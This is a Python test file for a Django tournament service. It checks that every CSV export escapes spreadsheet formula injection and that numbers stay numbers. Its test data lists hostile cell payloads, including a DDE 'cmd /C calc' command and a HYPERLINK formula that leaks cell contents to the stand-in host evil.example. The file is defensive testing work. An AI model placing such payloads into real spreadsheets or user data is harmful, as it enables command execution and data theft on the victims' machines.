"""Formula injection in CSV exports (OWASP "CSV Injection"): a name a spreadsheet would run
as a formula comes out as text, with a leading ``'``, from every CSV the service writes;
numbers stay numbers. Every CSV is written by ``tournaments.csv_cells``."""

from __future__ import annotations

import csv
import html
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client

from players.models import Player
from tournaments import services

ROOT = Path(__file__).resolve().parents[2]

HOSTILE_NAMES = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=2+2",
    " =3+3",
    "\uff1dSUM(4+4)",  # full-width equals sign
    "\uff0bSUM(5+5)",
    "'=6+6",  # a quote before a formula: escaped too, so that the quote survives a round trip
]

FORMULA_STARTS = set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def _live_formula(cell: str) -> bool:
    """True when a spreadsheet could read ``cell`` as a formula."""
    if PLAIN_NUMBER.fullmatch(cell) or len(cell) < 2:
        return False
    return cell[0] in FORMULA_STARTS or cell.lstrip()[:1] in FORMULA_STARTS


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_inert(text: str) -> list[list[str]]:
    rows = _cells(text)
    live = [cell for row in rows for cell in row if _live_formula(cell)]
    assert not live, f"live formulas in the CSV: {live}"
    return rows


@pytest.fixture
def hostile_event(club_a: Any, organizer: Any) -> Any:
    tournament = services.tournament_create(actor=organizer, club=club_a, name="Hostile open",
                                            game="kugamai", format="round_robin")
    for index, name in enumerate(HOSTILE_NAMES):
        player = Player.objects.create(display_name=name, club=club_a)
        services.entrant_register(actor=organizer, tournament=tournament, player=player,
                                  rating=1500 - index)
    return services.tournament_start(actor=organizer, tournament=tournament)


def _assert_names_escaped(rows: list[list[str]]) -> None:
    header, body = rows[0], rows[1:]
    names = [row[header.index("name")] for row in body]
    assert sorted(names) == sorted("'" + name for name in HOSTILE_NAMES)
    ratings = [row[header.index("rating")] for row in body]
    assert all(rating.isdigit() for rating in ratings), ratings  # numbers stay numbers


def test_public_standings_csv_neutralises_formulas(hostile_event: Any, api: Any) -> None:
    response = api.get(f"/api/tournaments/{hostile_event.pk}/standings.csv")
    assert response.status_code == 200
    _assert_names_escaped(_assert_inert(response.content.decode()))


def test_export_command_csv_neutralises_formulas(hostile_event: Any, tmp_path: Path) -> None:
    target = tmp_path / "standings.csv"
    call_command("export_tournament", str(hostile_event.pk), "--format", "csv",
                 "--output", str(target))
    with target.open(encoding="utf-8", newline="") as handle:
        _assert_names_escaped(_assert_inert(handle.read()))


def test_admin_dashboard_links_the_escaped_csv(hostile_event: Any, organizer: Any) -> None:
    client = Client()
    client.force_login(organizer)
    page = client.get(f"/admin/tournaments/tournament/{hostile_event.pk}/dashboard/")
    assert page.status_code == 200
    links = re.findall(r'href="([^"]*\.csv)"', page.content.decode())
    assert links
    for link in links:
        _assert_names_escaped(_assert_inert(client.get(html.unescape(link)).content.decode()))


def test_entry_list_preview_is_inert_and_enters_the_names_as_written(
        club_a: Any, organizer: Any) -> None:
    tournament = services.tournament_create(actor=organizer, club=club_a, name="Upload open",
                                            game="kugamai", format="round_robin")
    client = Client()
    client.force_login(organizer)
    url = f"/admin/tournaments/tournament/{tournament.pk}/entrants/"
    # An uploaded "'=6+6" is read as "=6+6", as the service's own CSV writes that name.
    names = [name for name in HOSTILE_NAMES
             if name.isprintable() and name == name.strip() and not name.startswith("'")]
    out = io.StringIO()
    csv.writer(out).writerows([["name", "rating"], *([name, "1500"] for name in names)])
    upload = SimpleUploadedFile("list.csv", out.getvalue().encode())
    page = client.post(url, {"action": "upload", "file": upload}).content.decode()
    text = re.search(r'<textarea name="text" hidden>(.*?)</textarea>', page, re.S)
    assert text is not None, page[:2000]
    preview = html.unescape(text.group(1))
    _assert_inert(preview)
    client.post(url, {"action": "upload_confirm", "text": preview})
    assert sorted(e.name for e in tournament.entrants.all()) == sorted(names)


@pytest.mark.parametrize(("value", "written"), [
    (-1, "-1"), (1.5, "1.5"), (-12.25, "-12.25"), ("-1", "-1"), ("+3", "+3"), ("-", "-"),
    ("", ""), (None, ""), ("Ada", "Ada"), ("=1+1", "'=1+1"), ("-1+1", "'-1+1"),
    ("@A1", "'@A1"), ("\uff20A1", "'\uff20A1"), ("\uff0d1+1", "'\uff0d1+1"),
    ("'t Hooft", "'t Hooft"),
])
def test_cells_are_escaped_as_owasp_describes(value: Any, written: str) -> None:
    from tournaments.csv_cells import csv_text, read_cell

    text = csv_text([[value]])
    assert _cells(text) == ([[written]] if written else [[""]] if text.strip() else [])
    if isinstance(value, str):
        assert read_cell(written) == value


def test_every_csv_is_written_by_the_one_writer() -> None:
    """No module writes CSV with ``csv.writer`` but ``tournaments/csv_cells.py``."""
    apps = ["config", "games", "players", "tournaments", "matches", "analysis", "ratings",
            "botruns", "pages"]
    writers = [str(path.relative_to(ROOT)) for app in apps for path in (ROOT / app).rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))]
    assert writers == ["tournaments/csv_cells.py"]
